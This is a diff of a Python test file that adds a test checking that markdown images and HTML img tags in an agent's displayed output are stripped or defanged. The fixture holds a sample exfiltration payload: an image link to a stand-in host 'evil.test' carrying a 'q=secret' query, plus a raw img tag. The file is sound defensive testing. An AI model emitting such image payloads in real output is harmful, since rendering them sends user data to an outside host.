@@ -117,6 +117,14 @@ async def test_that_words_are_a_strangers_travels_with_them() -> None:
     assert [update.tainted for update in updates] == [False, True, False]
 
 
+async def test_no_image_is_in_what_is_to_be_shown() -> None:
+    clock = VirtualClock()
+    detail = "See [it](https://a.test). ![x](https://evil.test/?q=secret)<img src=//evil.test>"
+    finding = Finding(kind=RESULT, text="Paris.", detail=detail)
+    updates = await worked(clock, [ScriptedAgent(clock, finding)])
+    assert updates[0].detail == "See [it](https://a.test). x‹img src=//evil.test>"
+
+
 async def test_the_next_agent_answers_when_one_cannot() -> None:
     clock = VirtualClock()
     broken = ScriptedAgent(clock, says("well", COMMENTARY), AgentError("no connection"))
